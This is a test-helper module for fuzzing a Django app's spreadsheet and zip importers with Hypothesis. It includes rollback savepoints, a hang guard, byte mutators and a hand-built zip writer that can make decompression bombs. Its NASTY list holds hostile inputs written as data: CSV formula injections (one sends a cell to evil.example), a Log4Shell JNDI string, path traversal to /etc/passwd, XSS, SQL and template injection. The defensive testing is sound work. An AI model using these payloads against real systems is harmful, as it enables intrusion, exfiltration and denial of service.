"""Helpers for fuzzing the importers and exports (tests/core/test_hostile_input.py).

Hypothesis runs a bounded number of examples per property, derandomized so that CI sees the same
files on every run; ``SAEBOM_FUZZ_EXAMPLES=N`` runs N examples per property instead (a long run,
``make bench`` style). Each example runs in a savepoint that is rolled back, so examples never see
each other's rows and the counts a check compares are the example's own.
"""

from __future__ import annotations

import contextlib
import io
import os
import signal
import struct
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from types import FrameType
from typing import Any

from django.db import models, transaction
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from saebom.core import vocab
from saebom.registry.interchange import FORMULA_STARTS

FUZZ_EXAMPLES = int(os.environ.get("SAEBOM_FUZZ_EXAMPLES") or 0)


def fuzz_settings(examples: int) -> settings:
    """``examples`` by default, ``SAEBOM_FUZZ_EXAMPLES`` when set; reproducible either way."""
    return settings(
        max_examples=FUZZ_EXAMPLES or examples,
        deadline=None,
        derandomize=True,
        database=None,  # nothing written under .hypothesis/
        print_blob=True,
        # The database fixtures are function-scoped on purpose: each example rolls back its own
        # savepoint (:func:`rolled_back`), so sharing them between examples is safe.
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
        ],
    )


# -- outcomes -----------------------------------------------------------------------------------


@dataclass
class Tally:
    """Per importer: how many cases ran and how each ended."""

    outcomes: dict[str, Counter[str]] = field(default_factory=dict)

    def add(self, importer: str, outcome: str) -> None:
        self.outcomes.setdefault(importer, Counter())[outcome] += 1

    def lines(self) -> list[str]:
        lines = []
        for importer, counted in self.outcomes.items():
            parts = ", ".join(f"{n} {outcome}" for outcome, n in sorted(counted.items()))
            lines.append(f"fuzz: {importer} {sum(counted.values())} cases ({parts})")
        return lines


@contextlib.contextmanager
def rolled_back() -> Iterator[None]:
    """A savepoint undone at the end, whatever happened inside."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def row_counts(*kinds: type[models.Model]) -> dict[str, int]:
    return {kind.__name__: kind.objects.count() for kind in kinds}


class Hang(BaseException):
    """A case ran longer than its guard: the importer loops on what it was given."""


@contextlib.contextmanager
def hang_guard(seconds: float) -> Iterator[None]:
    """Turn a hang into a failure (generous: this is not a timing assertion)."""

    def expire(signum: int, frame: FrameType | None) -> None:
        raise Hang(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


# -- text ---------------------------------------------------------------------------------------

NASTY = (
    "",
    " ",
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "'",
    "\x00",
    "a\x00b",
    "\x1b[31mred\x1b[0m",
    "line\nbreak",
    "line\r\nbreak",
    '"',
    '""quoted""',
    ",",
    ";;",
    "\ufeffrecord_id",
    "\u202eevil\u202c",  # right-to-left override
    "\u2028",
    "\u0085",
    "\U0001d518\U0001d52b",
    "\U0001f600",
    "김철수",
    "리영호",
    "ＡＢＣ１２３",
    "١٢٣",
    "NaN",
    "None",
    "null",
    "true",
    "0",
    "-0",
    "1e309",
    "9" * 30,
    "2023-02-29",
    "2023-13-01",
    "0000",
    "1899",
    "9999-12-31",
    "2099-01-01",
    "../../../etc/passwd",
    "C:\\Windows\\system.ini",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n",
    "{{7*7}}",
    "' OR 1=1 --",
    "x" * 64,
    "x" * 65,
    "가" * 201,
    "x" * 10_001,
)
HUGE = ("x" * 131_073, "가" * 200_000)  # past the csv module's field limit; 600 kB of Hangul

nasty_text = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=40),
    st.builds(
        lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), st.text(max_size=20)
    ),
)
huge_or_nasty = st.one_of(nasty_text, st.sampled_from(HUGE))


def codes(vocabulary: str) -> list[str]:
    return [t["code"] for t in vocab.shipped_terms() if t["vocabulary"] == vocabulary]


def labels(vocabulary: str) -> list[str]:
    terms = [t for t in vocab.shipped_terms() if t["vocabulary"] == vocabulary]
    return [t["label_ko"] for t in terms] + [t["label_en"] for t in terms]


# -- bytes --------------------------------------------------------------------------------------

ENCODINGS = ("utf-8", "utf-8", "utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp949", "latin-1")


@st.composite
def mutated(draw: st.DrawFn, data: bytes) -> bytes:
    """``data`` with a few byte-level changes: flips, inserts, deletions, cuts, repeats."""
    changed = bytearray(data)
    for _ in range(draw(st.integers(1, 4))):
        kind = draw(st.sampled_from(("flip", "insert", "delete", "cut", "repeat", "nul")))
        at = draw(st.integers(0, max(len(changed) - 1, 0)))
        if kind == "flip" and changed:
            changed[at] ^= 1 << draw(st.integers(0, 7))
        elif kind == "insert":
            changed[at:at] = draw(st.binary(min_size=1, max_size=8))
        elif kind == "delete":
            del changed[at : at + draw(st.integers(1, 16))]
        elif kind == "cut":
            del changed[at:]
        elif kind == "repeat":
            changed[at:at] = changed[at : at + draw(st.integers(1, 64))]
        else:
            changed[at:at] = b"\x00"
    return bytes(changed)


# -- workbooks ----------------------------------------------------------------------------------


def workbook(rows: Sequence[Sequence[Any]], change: Callable[[Any], None] | None = None) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for values in rows:
        sheet.append(list(values))
    if change:
        change(sheet)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rewrite_member(data: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """The workbook with one member's bytes changed (the others copied)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy,
    ):
        for info in source.infolist():
            content = source.read(info.filename)
            copy.writestr(info.filename, change(content) if info.filename == name else content)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


@dataclass(frozen=True)
class Member:
    name: str
    deflated: bytes
    crc: int
    size: int  # as declared in the headers


def member(name: str, content: bytes) -> Member:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Member(
        name, packer.compress(content) + packer.flush(), zlib.crc32(content), len(content)
    )


def repeated_member(name: str, head: bytes, chunk: bytes, times: int, tail: bytes) -> Member:
    """A member holding ``head + chunk * times + tail``, deflated without deflating all of it:
    ``chunk`` is deflated once as a self-contained block (full flush) and that block repeated,
    so a gigabyte costs a second to build (for the CRC) and a megabyte to hold."""

    def block(content: bytes, final: bool) -> bytes:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        return packer.compress(content) + packer.flush(
            zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH
        )

    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    deflated = block(head, False) + block(chunk, False) * times + block(tail, True)
    return Member(name, deflated, crc, len(head) + len(chunk) * times + len(tail))


def raw_zip(members: Sequence[Member]) -> bytes:
    """A zip archive written by hand, so that a member may declare any size (zip64 not needed:
    sizes stay under 4 GiB)."""
    out = io.BytesIO()
    directory = io.BytesIO()
    for item in members:
        name = item.name.encode()
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, item.crc,
                              len(item.deflated), item.size, len(name), 0))  # fmt: skip
        out.write(name + item.deflated)
        directory.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0,
                                    item.crc, len(item.deflated), item.size, len(name),
                                    0, 0, 0, 0, 0, offset))  # fmt: skip
        directory.write(name)
    start = out.tell()
    out.write(directory.getvalue())
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members),
                          len(directory.getvalue()), start, 0))  # fmt: skip
    return out.getvalue()


def members_of(data: bytes) -> list[Member]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [member(info.filename, archive.read(info.filename)) for info in archive.infolist()]
